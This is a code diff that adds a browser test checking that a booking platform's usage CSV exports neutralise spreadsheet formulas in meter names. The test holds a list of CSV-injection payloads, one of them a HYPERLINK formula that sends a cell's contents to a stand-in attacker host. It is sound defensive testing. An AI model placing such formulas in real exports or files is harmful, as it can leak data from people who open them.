@@ -3,6 +3,7 @@
 // marketplace and payment reference, a point-of-sale booking, a cancellation, keys, usage, and the
 // pages of APIs still to come. Skips when /usr/bin/chromium is missing; runs on the SQLite project only
 // (the browser sees the same HTTP API on either database, and the API suites cover PostgreSQL).
+import { readFileSync } from 'node:fs';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { Page } from 'playwright-core';
 import { createTestDatabase, testDialect, type TestDatabase } from '../helpers/database.js';
@@ -354,6 +355,26 @@ describe.skipIf(!run)('operator dashboard in a browser', { timeout: 60_000 }, ()
     const download = await downloading;
     expect(download.suggestedFilename()).toBe(`slotbook-usage-${from}-to-${to}.csv`);
     await screenshot(page, 'usage');
+  });
+
+  it('downloads usage CSVs in which a meter name is never a spreadsheet formula', async () => {
+    const formulas = ['=HYPERLINK("https://evil.example/?"&A2,"Open")', '+1+1', '-2+3', '@SUM(A1:A9)', '=1+2', '\uFF1D1+1'];
+    for (const Meter of formulas) await ok(admin, 'POST', '/api/v2/usage/meters', { Meter, Usage: 2 });
+    const today = utcDate(0);
+    await page.goto(`${base}/usage?from=${today}&to=${today}`);
+    await expect.poll(() => page.locator('tr[data-meter]').count()).toBeGreaterThanOrEqual(formulas.length);
+    for (const button of ['Summary CSV', 'Daily CSV']) {
+      const downloading = page.waitForEvent('download');
+      await page.getByRole('button', { name: button }).click();
+      const text = readFileSync((await (await downloading).path())!, 'utf8');
+      const meterCells = text.trim().split('\r\n').slice(1).map((line) => (button === 'Summary CSV' ? line : line.slice(line.indexOf(',') + 1)));
+      for (const formula of formulas) {
+        const quoted = /[",]/.test(formula) ? `"'${formula.replace(/"/g, '""')}"` : `'${formula}`;
+        expect(meterCells.some((cell) => cell.startsWith(`${quoted},`)), `${button}: ${formula}`).toBe(true);
+      }
+      // No cell of the file starts a formula.
+      expect(meterCells.every((cell) => !/^"?[=+\-@\t\r\uFF1D]/.test(cell)), button).toBe(true);
+    }
   });
 
   it('shows the waitlist of a sold-out timeslot and the e-mail outbox', async () => {
